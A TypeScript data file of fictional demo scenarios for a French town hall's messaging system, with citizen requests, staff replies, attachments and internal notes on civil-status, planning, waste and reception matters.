import type { QueueId } from '../../shared/index.js';
import { QUEUE_ACCUEIL, QUEUE_DECHETS, QUEUE_ETAT_CIVIL, QUEUE_URBANISME } from './demo-directory.js';

// What citizens write to a town hall about, and how its staff answer. Bodies hold placeholders
// ({civ}, {nom}, {prenom}, {adresse}, {date}, {ref}, {enfant}, {tel}) and **bold** marks that
// become <b> in the HTML version of an email; channel wrappers (greeting, signature) are added
// by demo-text.ts so one body serves email and chat.

export interface Scenario {
  key: string;
  /** The queue the opening message routes to by its keywords; checked by the tests. */
  queueId: QueueId;
  /** Lower-case noun phrase for generic sentences: "concernant {topic}". */
  topic: string;
  subjects: readonly string[];
  open: readonly string[];
  /** What an answered opening call was about, in the agent's words. */
  call: readonly string[];
  ask: readonly string[];
  provide: readonly string[];
  attachments: readonly (readonly [name: string, contentType: string])[];
  confirm: readonly string[];
  /** A complete answer that settles the request in one message. */
  answer: readonly string[];
  note: readonly string[];
}

export const SCENARIOS: readonly Scenario[] = [
  {
    key: 'acte-naissance',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'ma demande d’acte de naissance',
    subjects: ['Copie intégrale d’acte de naissance', 'Demande d’extrait d’acte de naissance'],
    open: [
      'Je souhaiterais obtenir une copie intégrale de mon acte de naissance, je suis né(e) à Saint-Aubin. C’est pour un dossier de passeport. Pouvez-vous me dire comment faire ?',
      'J’ai besoin d’un extrait d’acte de naissance avec filiation pour mon notaire. Est-il possible de le recevoir par courrier ?',
    ],
    call: ['Demande un extrait d’acte de naissance avec filiation pour un dossier chez le notaire.'],
    ask: [
      'Pour établir votre acte de naissance, pourriez-vous nous indiquer vos **nom de naissance, prénoms et date de naissance**, ainsi que les noms et prénoms de vos parents ?',
      'Nous pouvons vous adresser l’acte par courrier. Merci de nous communiquer votre date de naissance, les prénoms de vos parents et l’adresse d’envoi.',
    ],
    provide: [
      'Voici les informations demandées :\n- **Date de naissance** : 14/03/1987\n- Père : Jean-Claude {nom}\n- Mère : Martine Lefort\nL’adresse d’envoi est le {adresse}, 44150 Saint-Aubin.',
      'Je suis né(e) le 2 juillet 1979 à la maternité de Saint-Aubin. Mes parents : Alain et Josette {nom}. Merci de l’envoyer au {adresse}.',
    ],
    attachments: [['piece_identite.pdf', 'application/pdf']],
    confirm: [
      'Votre acte de naissance (copie intégrale) a été posté ce jour à l’adresse indiquée. Vous devriez le recevoir sous 2 à 3 jours ouvrés.',
      'L’extrait avec filiation vous a été envoyé par courrier ce matin. Pour vos prochaines demandes, vous pouvez aussi passer par le site service-public.fr.',
    ],
    answer: [
      'Vous pouvez faire votre demande en ligne sur service-public.fr (rubrique « Acte de naissance »), c’est gratuit et l’acte vous est envoyé par courrier sous quelques jours. Vous pouvez aussi vous présenter à l’accueil de l’état civil avec une pièce d’identité.',
    ],
    note: ['Acte vérifié au registre 1987, mention marginale de mariage présente : copie intégrale envoyée.', 'Demande saisie dans le logiciel d’état civil, envoi par courrier simple.'],
  },
  {
    key: 'passeport',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'mon rendez-vous pour un passeport',
    subjects: ['Rendez-vous passeport', 'Passeport expiré — départ professionnel'],
    open: [
      'Je voudrais prendre rendez-vous pour faire un passeport pour moi et pour {enfant}, notre voyage est prévu dans deux mois. Les créneaux en ligne sont tous pris, que puis-je faire ?',
      'Mon passeport a expiré et je dois partir à l’étranger pour le travail. Quels sont les délais actuels pour un rendez-vous ?',
    ],
    call: ['Souhaite un rendez-vous pour un passeport (départ à l’étranger dans deux mois), les créneaux en ligne sont complets.'],
    ask: [
      'Avez-vous déjà rempli la **pré-demande en ligne** sur le site de l’ANTS ? Si oui, merci de nous transmettre le numéro de pré-demande afin que nous puissions vous proposer un créneau.',
      'Pour vous proposer un rendez-vous, pouvez-vous nous envoyer votre numéro de pré-demande ANTS et nous préciser si la demande concerne aussi un mineur ?',
    ],
    provide: [
      'J’ai fait les deux pré-demandes : 7TQ2M8ZK1P pour moi et 4RX9B2LW6C pour {enfant}. Nous sommes disponibles **plutôt en fin de journée**.',
      'Voici le numéro de pré-demande : **2H7K9QX4LM**. Il s’agit de moi seulement.',
    ],
    attachments: [['recapitulatif_predemande_ANTS.pdf', 'application/pdf']],
    confirm: [
      'Nous vous avons réservé un rendez-vous le **{date}** au guichet des titres d’identité. Pensez à apporter une photo d’identité de moins de 6 mois, un justificatif de domicile et le timbre fiscal.',
      'Un créneau s’est libéré : rendez-vous le **{date}**. Merci de venir avec l’ancien passeport, un justificatif de domicile récent et le timbre fiscal dématérialisé.',
    ],
    answer: [
      'Les rendez-vous sont ouverts chaque lundi à 9 h pour les quatre semaines suivantes, sur le site de la mairie. Pour un départ urgent justifié (billet, attestation employeur), contactez-nous avec le justificatif : nous gardons quelques créneaux prioritaires.',
    ],
    note: ['Créneau prioritaire accordé (départ justifié par billet d’avion).', 'Rendez-vous saisi dans l’agenda des titres, confirmation envoyée.'],
  },
  {
    key: 'carte-identite',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'ma carte d’identité',
    subjects: ['Carte d’identité perdue', 'Renouvellement carte d’identité'],
    open: [
      'J’ai perdu ma carte d’identité lors d’un déplacement. Que dois-je faire pour la refaire et faut-il une déclaration de perte ?',
      'Ma carte d’identité arrive à expiration le mois prochain. Est-ce que je peux déjà faire le renouvellement ?',
    ],
    call: ['Perte de carte d’identité : demande la marche à suivre et les pièces à fournir.'],
    ask: [
      'La déclaration de perte se fait désormais lors de la pré-demande en ligne sur le site de l’ANTS. Pouvez-vous nous indiquer si vous avez un **passeport valide** ? Cela simplifie la justification d’identité.',
      'Vous pouvez renouveler votre carte dès maintenant. Avez-vous déjà fait la pré-demande en ligne ? Merci de nous envoyer le numéro pour que nous vous proposions un rendez-vous.',
    ],
    provide: [
      'Oui j’ai un passeport valide jusqu’en 2028. J’ai fait la pré-demande, le numéro est 9KD3LM2QW7.',
      'Pré-demande faite, voici le récapitulatif en pièce jointe. Je suis disponible le mardi ou le jeudi.',
    ],
    attachments: [['recapitulatif_ANTS.pdf', 'application/pdf'], ['justificatif_domicile.pdf', 'application/pdf']],
    confirm: [
      'Votre rendez-vous est fixé au **{date}**. Apportez votre passeport, une photo d’identité récente, un justificatif de domicile et un timbre fiscal de 25 € (perte).',
      'C’est noté, rendez-vous le **{date}** au service des titres. La présence du demandeur est obligatoire pour la prise d’empreintes.',
    ],
    answer: [
      'Vous pouvez faire votre pré-demande en ligne puis prendre rendez-vous sur le site de la mairie. En cas de perte, un timbre fiscal de 25 € est demandé ; le renouvellement d’une carte expirée est gratuit.',
    ],
    note: ['Titre précédent vérifié dans le système TES.', 'Rendez-vous CNI pris, rappel SMS programmé.'],
  },
  {
    key: 'mariage',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'notre dossier de mariage',
    subjects: ['Mariage prévu en septembre', 'Suivi de notre dossier de mariage'],
    open: [
      'Mon/ma conjoint(e) et moi souhaitons nous marier à Saint-Aubin en septembre prochain. Quelles sont les démarches et les pièces à fournir pour le dossier de mariage ?',
      'Nous avons déposé notre dossier de mariage il y a trois semaines. Pouvez-vous nous confirmer qu’il est complet et que la date du samedi est bien retenue ?',
    ],
    call: ['Couple souhaitant se marier en septembre : demande les pièces du dossier de mariage et la disponibilité des samedis.'],
    ask: [
      'Pour constituer le dossier, il nous faut pour chacun : une copie intégrale d’acte de naissance de moins de 3 mois, une pièce d’identité, un justificatif de domicile, ainsi que la **liste des témoins** (2 à 4) avec copie de leur pièce d’identité. Avez-vous une date souhaitée ?',
      'Il manque à votre dossier la liste des témoins et la copie de leur pièce d’identité. Pouvez-vous nous les transmettre ?',
    ],
    provide: [
      'Nous souhaiterions le **samedi 13 septembre après-midi**. Vous trouverez ci-joint nos actes de naissance et la liste des témoins.',
      'Voici la liste des témoins avec les copies de leurs cartes d’identité. Merci de votre aide !',
    ],
    attachments: [['actes_naissance.pdf', 'application/pdf'], ['liste_temoins.pdf', 'application/pdf']],
    confirm: [
      'Votre dossier est complet. La célébration est réservée le **{date}** en salle des mariages. Une audition préalable des futurs époux aura lieu deux semaines avant ; nous vous enverrons la convocation.',
      'Merci, le dossier est désormais complet et la publication des bans sera affichée dix jours avant la cérémonie.',
    ],
    answer: [
      'La liste des pièces du dossier de mariage est disponible sur le site de la mairie (rubrique État civil > Mariage). Le dossier doit être déposé au moins un mois avant la date, sur rendez-vous avec les deux futurs époux.',
      'Votre dossier est complet et la date du samedi est bien retenue. Vous recevrez prochainement la convocation pour l’audition préalable.',
    ],
    note: ['Dossier mariage contrôlé : complet. Bans à publier.', 'Date réservée dans l’agenda des célébrations, élu à confirmer.'],
  },
  {
    key: 'pacs',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'notre PACS',
    subjects: ['Enregistrement d’un PACS', 'Rendez-vous PACS'],
    open: [
      'Nous voudrions nous pacser. Faut-il prendre rendez-vous et quels documents devons-nous apporter ?',
      'Nous avons rempli la convention de PACS, comment se passe l’enregistrement en mairie ?',
    ],
    call: ['Couple qui souhaite conclure un PACS : questions sur la convention et le rendez-vous.'],
    ask: [
      'L’enregistrement du PACS se fait sur rendez-vous, en présence des deux partenaires. Pouvez-vous nous adresser la **convention signée** (cerfa 15726) et vos actes de naissance de moins de 3 mois pour vérification préalable ?',
    ],
    provide: ['Voici la convention et nos deux actes de naissance.', 'Ci-joint les documents demandés. Nous sommes disponibles un vendredi matin si possible.'],
    attachments: [['convention_pacs.pdf', 'application/pdf'], ['actes_naissance.pdf', 'application/pdf']],
    confirm: [
      'Les pièces sont conformes. Votre PACS sera enregistré le **{date}** en mairie ; venez tous les deux avec vos pièces d’identité originales.',
    ],
    answer: [
      'Le PACS s’enregistre en mairie sur rendez-vous, ou chez un notaire. Vous trouverez la convention type et la liste des pièces sur service-public.fr ; une fois le dossier prêt, appelez-nous pour fixer la date.',
    ],
    note: ['Pré-contrôle PACS effectué, pièces conformes.'],
  },
  {
    key: 'deces',
    queueId: QUEUE_ETAT_CIVIL,
    topic: 'l’acte de décès de mon père',
    subjects: ['Acte de décès', 'Demande d’actes de décès pour la succession'],
    open: [
      'Mon père est décédé la semaine dernière à Saint-Aubin. Le notaire me demande plusieurs copies de l’acte de décès. Comment les obtenir ?',
      'Je dois fournir un acte de décès de ma mère à la caisse de retraite. Pouvez-vous m’en envoyer deux exemplaires ?',
    ],
    call: ['Appel suite au décès d’un parent : demande des copies d’acte de décès pour le notaire.'],
    ask: [
      'Nous vous présentons nos sincères condoléances. Pour vous adresser les copies, pouvez-vous nous préciser le **nom, prénom et date du décès**, ainsi que le nombre d’exemplaires souhaités ?',
    ],
    provide: [
      'Merci. Il s’agit de Gérard {nom}, décédé le 3 du mois. Il me faudrait 4 exemplaires, à envoyer au {adresse}.',
      'Il s’agit de Simone {nom}, décédée le 21 du mois dernier. Deux exemplaires suffiront.',
    ],
    attachments: [],
    confirm: ['Les copies de l’acte de décès vous ont été adressées ce jour par courrier. Nous restons à votre disposition.'],
    answer: [
      'Nous vous présentons nos condoléances. Les copies d’acte de décès sont délivrées gratuitement : vous pouvez les demander en ligne sur le site de la mairie ou à l’accueil de l’état civil, sans rendez-vous.',
    ],
    note: ['Décès transcrit, 4 copies envoyées.', 'Famille orientée vers le CCAS pour l’aide aux obsèques.'],
  },
  {
    key: 'permis-construire',
    queueId: QUEUE_URBANISME,
    topic: 'mon permis de construire',
    subjects: ['Permis de construire — extension', 'Suivi de mon permis de construire'],
    open: [
      'Je prévois une extension de 30 m² de ma maison au {adresse}. Dois-je déposer un permis de construire ou une déclaration préalable suffit-elle ?',
      'J’ai déposé un permis de construire il y a deux mois (dossier {ref}). Pouvez-vous me dire où en est l’instruction ?',
    ],
    call: ['Question sur un projet d’extension : permis de construire ou déclaration préalable ?', 'Demande l’état d’avancement de son permis de construire.'],
    ask: [
      'Au-delà de 20 m² d’emprise au sol en zone urbaine, un permis de construire est nécessaire (40 m² dans certains cas). Pouvez-vous nous transmettre un **plan de situation** et la surface exacte pour que nous vérifiions la zone du PLU ?',
      'Votre dossier est en cours d’instruction. Il manque une pièce : le plan de coupe (PCMI3). Pouvez-vous nous l’envoyer ?',
    ],
    provide: ['Voici le plan de situation et l’esquisse du projet. La surface créée serait de **32 m²**.', 'Ci-joint le plan de coupe demandé.'],
    attachments: [['plan_situation.pdf', 'application/pdf'], ['plan_coupe_PCMI3.pdf', 'application/pdf']],
    confirm: [
      'Votre terrain est en zone UB : un permis de construire est bien nécessaire. Vous pouvez le déposer en ligne sur le guichet numérique des autorisations d’urbanisme.',
      'Merci, la pièce a été ajoutée au dossier {ref}. Le délai d’instruction court à nouveau ; vous recevrez la décision par courrier dans un délai de deux mois.',
    ],
    answer: [
      'Vous pouvez déposer votre demande sur le guichet numérique des autorisations d’urbanisme. L’instructeur vous recevra sur rendez-vous le mardi après-midi si vous souhaitez un conseil avant dépôt.',
      'Votre dossier {ref} est complet et en cours d’instruction ; la décision vous sera notifiée par courrier d’ici la fin du mois.',
    ],
    note: ['Dossier {ref} : pièce complémentaire reçue, délai relancé.', 'Terrain en zone UB, pas de périmètre ABF.'],
  },
  {
    key: 'declaration-prealable',
    queueId: QUEUE_URBANISME,
    topic: 'ma déclaration préalable',
    subjects: ['Déclaration préalable — abri de jardin et clôture', 'Travaux sur les fenêtres et les volets'],
    open: [
      'Je voudrais installer un abri de jardin de 12 m² et refaire ma clôture. Faut-il une déclaration préalable ?',
      'Je souhaite remplacer mes fenêtres et changer la couleur de mes volets. Est-ce que je dois faire une déclaration préalable de travaux ?',
    ],
    call: ['Question sur une déclaration préalable (abri de jardin et clôture).'],
    ask: [
      'Oui, un abri entre 5 et 20 m² et une clôture sur rue nécessitent une **déclaration préalable**. Pouvez-vous nous indiquer la hauteur prévue de la clôture et les matériaux ?',
      'Un changement d’aspect extérieur demande une déclaration préalable. Quelle teinte envisagez-vous pour les volets ? Le nuancier communal est disponible en mairie.',
    ],
    provide: ['La clôture ferait 1,50 m, en grillage rigide vert avec soubassement béton.', 'Nous pensions à un gris anthracite RAL 7016. Je joins une photo de la façade.'],
    attachments: [['photo_facade.jpg', 'image/jpeg']],
    confirm: [
      'Votre projet respecte le règlement (hauteur maximale 1,80 m). Vous pouvez déposer la déclaration préalable (cerfa 13703) ; le délai d’instruction est d’un mois.',
      'Le RAL 7016 fait partie du nuancier autorisé. Déposez votre déclaration préalable avec la photo et un plan de façade ; réponse sous un mois.',
    ],
    answer: [
      'Une déclaration préalable est nécessaire. Le formulaire cerfa 13703 et le guide des pièces sont en ligne sur le site de la mairie ; le délai d’instruction est d’un mois à compter du dépôt complet.',
    ],
    note: ['Conseil donné, dépôt DP attendu.', 'Vérifié au PLU : clôture limitée à 1,80 m en zone UC.'],
  },
  {
    key: 'encombrants',
    queueId: QUEUE_DECHETS,
    topic: 'l’enlèvement de mes encombrants',
    subjects: ['Enlèvement des encombrants', 'Rendez-vous collecte encombrants'],
    open: [
      'Je déménage à la fin du mois et j’ai un canapé, un matelas et une vieille machine à laver à faire enlever. Comment fonctionne la collecte des encombrants ?',
      'Je voudrais prendre rendez-vous pour l’enlèvement d’encombrants devant chez moi au {adresse}.',
    ],
    call: ['Demande un rendez-vous pour l’enlèvement d’encombrants (canapé, matelas, électroménager).'],
    ask: [
      'La collecte des encombrants se fait sur rendez-vous, gratuitement, dans la limite de 3 m³. Pouvez-vous nous donner la **liste des objets** et l’adresse exacte ?',
      'Pouvez-vous nous préciser le volume approximatif et si des appareils électriques font partie de l’enlèvement ?',
    ],
    provide: ['Voici la liste :\n- un canapé 3 places\n- un matelas 140\n- un lave-linge\nAdresse : **{adresse}**.', 'Environ 2 m³ : une armoire démontée, deux chaises et un réfrigérateur.'],
    attachments: [['photo_encombrants.jpg', 'image/jpeg']],
    confirm: [
      'Votre enlèvement est programmé le **{date}**. Merci de déposer les objets sur le trottoir la veille au soir, sans gêner le passage des piétons.',
      'C’est noté pour le **{date}**. Le réfrigérateur sera collecté à part par la filière électroménager, le même jour.',
    ],
    answer: [
      'Les encombrants sont collectés sur rendez-vous le premier mercredi du mois. Vous pouvez aussi les déposer gratuitement à la déchetterie intercommunale, ouverte du mardi au samedi.',
    ],
    note: ['Rendez-vous encombrants saisi dans le planning du prestataire.', 'Volume > 3 m³ : orienté vers la déchetterie pour le surplus.'],
  },
  {
    key: 'bac-collecte',
    queueId: QUEUE_DECHETS,
    topic: 'ma poubelle non collectée',
    subjects: ['Poubelle non collectée', 'Bac jaune cassé'],
    open: [
      'Notre poubelle n’a pas été ramassée lundi dans notre rue ({adresse}), alors qu’elle était bien sortie la veille. Est-ce normal ?',
      'Le couvercle de mon bac jaune est cassé depuis la dernière collecte. Est-il possible de le faire remplacer ?',
    ],
    call: ['Signale que la poubelle n’a pas été ramassée dans sa rue.', 'Bac jaune endommagé lors de la collecte, demande un remplacement.'],
    ask: [
      'Merci pour votre signalement. Pouvez-vous nous confirmer l’adresse exacte et si **d’autres bacs de la rue** ont également été oubliés ?',
      'Pouvez-vous nous indiquer le numéro inscrit sur le bac (étiquette sur le côté) et nous envoyer une photo ?',
    ],
    provide: ['Oui, **toute la rue** est concernée, les bacs sont encore dehors.', 'Le numéro du bac est 4471-22. Photo en pièce jointe.'],
    attachments: [['photo_bac.jpg', 'image/jpeg']],
    confirm: [
      'Le prestataire a confirmé un oubli de tournée : un passage de rattrapage est prévu demain matin. Veuillez laisser vos bacs sortis.',
      'Un bac neuf vous sera livré le **{date}**. L’ancien sera repris par le livreur.',
    ],
    answer: [
      'La collecte a été décalée d’un jour cette semaine en raison du jour férié. Vous pouvez consulter le calendrier de collecte sur le site de la mairie.',
      'Un bac neuf vous sera livré sous dix jours ; l’ancien sera repris par le livreur.',
    ],
    note: ['Signalement transmis au prestataire de collecte.', 'Remplacement de bac commandé.'],
  },
  {
    key: 'depot-sauvage',
    queueId: QUEUE_DECHETS,
    topic: 'le dépôt sauvage près de chez moi',
    subjects: ['Dépôt sauvage', 'Signalement déchets abandonnés'],
    open: [
      'Je vous signale un dépôt sauvage important à l’angle du chemin du Moulin : sacs, gravats et pneus. Cela fait plusieurs jours.',
      'Il y a des déchets abandonnés à côté des conteneurs à verre de la place de l’Église depuis le week-end.',
    ],
    call: ['Signale un dépôt sauvage (sacs, gravats, pneus) chemin du Moulin.'],
    ask: ['Merci pour votre vigilance. Pourriez-vous nous envoyer une **photo** et la localisation précise pour que l’équipe propreté intervienne ?'],
    provide: ['Voici deux photos. C’est juste après le pont, côté champ.', 'Photo jointe, c’est devant le conteneur le plus à gauche.'],
    attachments: [['depot_sauvage_1.jpg', 'image/jpeg'], ['depot_sauvage_2.jpg', 'image/jpeg']],
    confirm: [
      'L’équipe propreté est intervenue ce matin et le site a été nettoyé. Un indice permettant d’identifier l’auteur a été transmis à la police municipale.',
    ],
    answer: ['Merci pour votre signalement : l’équipe propreté passera dans la journée. Ces dépôts sont verbalisables, la police municipale est informée.'],
    note: ['Bon d’intervention propreté n° {ref} émis.', 'Police municipale informée (courrier trouvé dans les sacs).'],
  },
  {
    key: 'cantine',
    queueId: QUEUE_ACCUEIL,
    topic: 'l’inscription à la cantine scolaire',
    subjects: ['Inscription cantine scolaire', 'Restauration scolaire — tarif'],
    open: [
      'Je voudrais inscrire mon fils {enfant} à la cantine de l’école Jules-Ferry à partir de la rentrée. Comment faut-il procéder ?',
      'Ma fille {enfant} mange à la cantine depuis septembre mais la facture ne tient pas compte de notre quotient familial. Pouvez-vous vérifier ?',
    ],
    call: ['Inscription d’un enfant à la cantine scolaire, demande la procédure et les tarifs.'],
    ask: [
      'L’inscription se fait sur le portail Famille. Pour calculer votre tarif, merci de nous envoyer votre **attestation de quotient familial CAF** et de nous indiquer la classe de l’enfant.',
      'Pouvez-vous nous transmettre votre attestation CAF récente ? Nous recalculerons les factures depuis septembre.',
    ],
    provide: ['Voici l’attestation CAF. {enfant} sera en CE1.', 'Attestation CAF en pièce jointe, notre quotient est de 680.'],
    attachments: [['attestation_CAF.pdf', 'application/pdf']],
    confirm: [
      'L’inscription de {enfant} est enregistrée à partir de la rentrée, au tarif de la tranche 3. Vos identifiants du portail Famille vous arrivent par courriel.',
      'Le tarif a été corrigé et un avoir sera déduit de votre prochaine facture.',
    ],
    answer: [
      'Les inscriptions à la restauration scolaire se font sur le portail Famille jusqu’au 15 juillet. Le tarif dépend du quotient familial ; sans attestation CAF, le tarif maximal s’applique.',
      'Nous avons recalculé vos factures avec le quotient familial transmis par la CAF : un avoir sera déduit de la prochaine facture.',
    ],
    note: ['Dossier famille mis à jour, QF 680 → tranche 3.', 'Avoir de 23,40 € saisi.'],
  },
  {
    key: 'bruit',
    queueId: QUEUE_ACCUEIL,
    topic: 'les nuisances sonores de mon voisin',
    subjects: ['Bruit de voisinage la nuit', 'Nuisances sonores — chien'],
    open: [
      'Mon voisin fait de la musique très fort presque tous les soirs jusqu’à 2 h du matin. J’ai essayé de lui parler, sans résultat. Que puis-je faire ?',
      'Un chien aboie toute la journée dans le jardin voisin au {adresse} quand ses propriétaires sont absents. C’est devenu insupportable.',
    ],
    call: ['Se plaint de nuisances sonores nocturnes d’un voisin (musique tard le soir).'],
    ask: [
      'Nous sommes désolés de cette situation. Pouvez-vous nous indiquer l’**adresse du voisin** et les horaires habituels des nuisances ? Un courrier de rappel à la réglementation peut lui être adressé.',
    ],
    provide: ['C’est au 14 de la même rue, surtout du jeudi au samedi, entre 23 h et 2 h.', 'Le chien est au numéro 16, il aboie de 8 h à 18 h environ.'],
    attachments: [],
    confirm: [
      'Un courrier de rappel à la réglementation a été envoyé à votre voisin. Si les nuisances continuent la nuit, vous pouvez appeler la police municipale ou le 17.',
      'La police municipale passera rencontrer le propriétaire cette semaine. N’hésitez pas à nous tenir informés.',
    ],
    answer: [
      'En cas de tapage nocturne, vous pouvez contacter la police municipale (ou le 17 la nuit). Le conciliateur de justice tient aussi une permanence en mairie le premier jeudi du mois.',
    ],
    note: ['Courrier de rappel arrêté municipal bruit envoyé.', 'Transmis à la police municipale pour passage.'],
  },
  {
    key: 'stationnement',
    queueId: QUEUE_ACCUEIL,
    topic: 'ma carte de stationnement résident',
    subjects: ['Carte de stationnement résident', 'Véhicule ventouse devant chez moi'],
    open: [
      'Je viens d’emménager au {adresse} et je voudrais obtenir une carte de stationnement résident. Quels sont les justificatifs ?',
      'Une voiture est stationnée devant mon garage depuis plus de trois semaines sans bouger. Pouvez-vous faire quelque chose ?',
    ],
    call: ['Demande de carte de stationnement résident après emménagement.', 'Signale un véhicule ventouse devant son garage.'],
    ask: [
      'Pour la carte résident, merci de nous envoyer la **carte grise** du véhicule à votre adresse et un justificatif de domicile de moins de 3 mois.',
      'Pouvez-vous nous communiquer la plaque d’immatriculation, la marque et la couleur du véhicule ?',
    ],
    provide: ['Voici la carte grise et une facture d’électricité.', 'C’est une Clio grise immatriculée GH-418-KZ.'],
    attachments: [['carte_grise.pdf', 'application/pdf'], ['facture_electricite.pdf', 'application/pdf']],
    confirm: [
      'Votre carte de stationnement résident est prête, vous pouvez la retirer à l’accueil à partir du **{date}** (tarif annuel : 30 €).',
      'La police municipale a constaté le stationnement abusif et une procédure d’enlèvement est engagée.',
    ],
    answer: [
      'La carte résident se demande à l’accueil avec la carte grise et un justificatif de domicile ; elle coûte 30 € par an et est délivrée immédiatement.',
      'Merci, la police municipale va constater le stationnement abusif ; au-delà de sept jours, le véhicule peut être mis en fourrière.',
    ],
    note: ['Carte résident n° {ref} éditée.', 'Signalement transmis à la police municipale (stationnement abusif > 7 jours).'],
  },
  {
    key: 'liste-electorale',
    queueId: QUEUE_ACCUEIL,
    topic: 'mon inscription sur les listes électorales',
    subjects: ['Inscription sur les listes électorales', 'Changement d’adresse — bureau de vote'],
    open: [
      'Je suis arrivé(e) dans la commune cette année, comment puis-je m’inscrire sur les listes électorales ? Y a-t-il une date limite ?',
      'J’ai déménagé à l’intérieur de la commune. Dois-je signaler ma nouvelle adresse pour changer de bureau de vote ?',
    ],
    call: ['Nouvel habitant : demande comment s’inscrire sur les listes électorales.'],
    ask: [
      'Vous pouvez vous inscrire en ligne ou nous envoyer le **cerfa 12669** accompagné d’une pièce d’identité et d’un justificatif de domicile. Souhaitez-vous que nous vous l’envoyions ?',
    ],
    provide: ['Voici le formulaire rempli, ma carte d’identité et mon bail.', 'Je vous envoie le justificatif de ma nouvelle adresse.'],
    attachments: [['cerfa_12669.pdf', 'application/pdf'], ['justificatif_domicile.pdf', 'application/pdf']],
    confirm: [
      'Votre inscription est enregistrée. Vous recevrez votre carte électorale par courrier avant le prochain scrutin ; votre bureau de vote est l’école Jules-Ferry.',
    ],
    answer: [
      'L’inscription est possible jusqu’au sixième vendredi précédant un scrutin, en ligne sur service-public.fr ou en mairie avec une pièce d’identité et un justificatif de domicile.',
    ],
    note: ['Inscription saisie dans le REU.'],
  },
  {
    key: 'salle',
    queueId: QUEUE_ACCUEIL,
    topic: 'la location de la salle polyvalente',
    subjects: ['Location de la salle polyvalente pour un anniversaire', 'Réservation de salle pour notre association'],
    open: [
      'Je voudrais louer la salle polyvalente pour les 50 ans de mon mari, un samedi en juin. Est-elle disponible et quel est le tarif pour les habitants ?',
      'Notre association souhaite réserver la petite salle pour une réunion un mardi soir par mois. Comment procéder ?',
    ],
    call: ['Demande de réservation de la salle polyvalente pour une fête familiale un samedi de juin.'],
    ask: [
      'La salle est disponible les samedis 14 et 28 juin. Pouvez-vous nous confirmer la date choisie et le **nombre de personnes** attendues ?',
    ],
    provide: ['Le 14 juin nous conviendrait, pour environ 80 personnes.', 'Le premier mardi de chaque mois, de 19 h à 22 h, une quinzaine de personnes.'],
    attachments: [['attestation_assurance.pdf', 'application/pdf']],
    confirm: [
      'La salle vous est réservée. Le contrat et l’état des lieux se feront le **{date}** ; merci de prévoir l’attestation d’assurance et le chèque de caution de 500 €.',
    ],
    answer: ['Les tarifs et le formulaire de réservation des salles sont sur le site de la mairie. Les habitants bénéficient d’un tarif réduit (250 € le week-end).'],
    note: ['Réservation posée dans le planning des salles.'],
  },
  {
    key: 'eclairage',
    queueId: QUEUE_ACCUEIL,
    topic: 'le lampadaire en panne',
    subjects: ['Lampadaire en panne', 'Nid-de-poule dangereux'],
    open: [
      'Le lampadaire devant le {adresse} ne fonctionne plus depuis une semaine, la rue est très sombre le soir.',
      'Il y a un gros nid-de-poule sur la route de Nantes, à hauteur de la boulangerie. Deux voitures ont déjà crevé.',
    ],
    call: ['Signale un lampadaire en panne dans sa rue.', 'Signale un nid-de-poule dangereux route de Nantes.'],
    ask: ['Merci pour votre signalement. Pouvez-vous nous indiquer le **numéro inscrit sur le poteau** ou nous envoyer une photo ?'],
    provide: ['Le numéro sur le poteau est EP-0327.', 'Photo en pièce jointe, c’est juste avant le passage piéton.'],
    attachments: [['photo_voirie.jpg', 'image/jpeg']],
    confirm: [
      'Les services techniques sont intervenus : le lampadaire a été réparé hier soir. Merci de nous avoir prévenus.',
      'Une réparation provisoire a été faite ce matin ; la réfection définitive est programmée le **{date}**.',
    ],
    answer: ['Merci, votre signalement a été transmis aux services techniques qui interviendront sous 48 heures.'],
    note: ['Bon d’intervention services techniques n° {ref}.'],
  },
];

// Generic turns that fit any request.

export const RELANCE: readonly string[] = [
  'Je me permets de relancer ma demande de la semaine dernière, je n’ai pas encore eu de réponse.',
  'Je reviens vers vous concernant {topic}, avez-vous pu regarder ?',
  'Je n’ai toujours pas de nouvelles concernant {topic}. Pouvez-vous me tenir informé(e) ?',
];

export const PRECISION: readonly string[] = [
  'Je précise que je suis joignable au {tel} en journée.',
  'Pardon, j’ai oublié de préciser que c’est assez urgent pour moi.',
  'J’ajoute que je ne suis disponible que le matin, je travaille l’après-midi.',
  'Petite précision : vous pouvez aussi me répondre par téléphone si c’est plus simple.',
];

export const THANKS: readonly string[] = [
  'Merci beaucoup pour votre réponse rapide !',
  'Parfait, merci pour votre aide. Bonne journée.',
  'C’est très clair, merci.',
  'Merci, c’est bien reçu.',
  'Super, merci beaucoup 🙏',
  'Merci pour votre efficacité, bonne fin de journée.',
];

export const QUESTIONS: readonly (readonly [question: string, reply: string])[] = [
  [
    'Est-ce que je dois venir en personne ou est-ce que tout peut se faire à distance ?',
    'Tout peut se faire à distance, sauf si une signature ou la prise d’empreintes est nécessaire : dans ce cas nous vous le préciserons.',
  ],
  [
    'Quels sont les horaires d’ouverture de la mairie le samedi ?',
    'L’accueil est ouvert le samedi de 9 h à 12 h, et du lundi au vendredi de 8 h 30 à 17 h 30.',
  ],
  [
    'Est-ce que cette démarche est payante ?',
    'Non, cette démarche est entièrement gratuite.',
  ],
  [
    'Puis-je envoyer les documents en photo depuis mon téléphone ?',
    'Oui, des photos lisibles suffisent pour l’instruction. Les originaux pourront vous être demandés lors du rendez-vous.',
  ],
  [
    'Combien de temps faut-il compter en général ?',
    'Comptez en général une à deux semaines ; nous vous tiendrons informé(e) de l’avancement.',
  ],
];

/** Replies on a conversation that stays open: the agent is working on it. */
export const HOLDING: readonly string[] = [
  'Merci, c’est bien reçu. Je transmets au service concerné et je reviens vers vous dès que possible.',
  'Nous avons bien reçu vos éléments, le dossier est en cours de traitement.',
];

export const CALL_NOTES: readonly string[] = [
  'Appel traité : {call} Informations données, le demandeur envoie ses pièces par écrit.',
  'Échange téléphonique : {call} Procédure expliquée, suite par écrit.',
];

export const CALLBACK_NOTES: readonly string[] = [
  'Rappelé le demandeur suite à son message vocal, pas de réponse : message laissé.',
  'Rappel effectué, le demandeur a eu ses réponses au téléphone.',
];

export const VOICEMAIL: readonly string[] = [
  'Bonjour, c’est {prenom} {nom}, je vous appelle concernant {topic}. Merci de me rappeler au {tel}. Au revoir.',
  'Oui bonjour, {prenom} {nom} à l’appareil, c’est pour {topic}, pouvez-vous me rappeler s’il vous plaît ? Merci.',
];

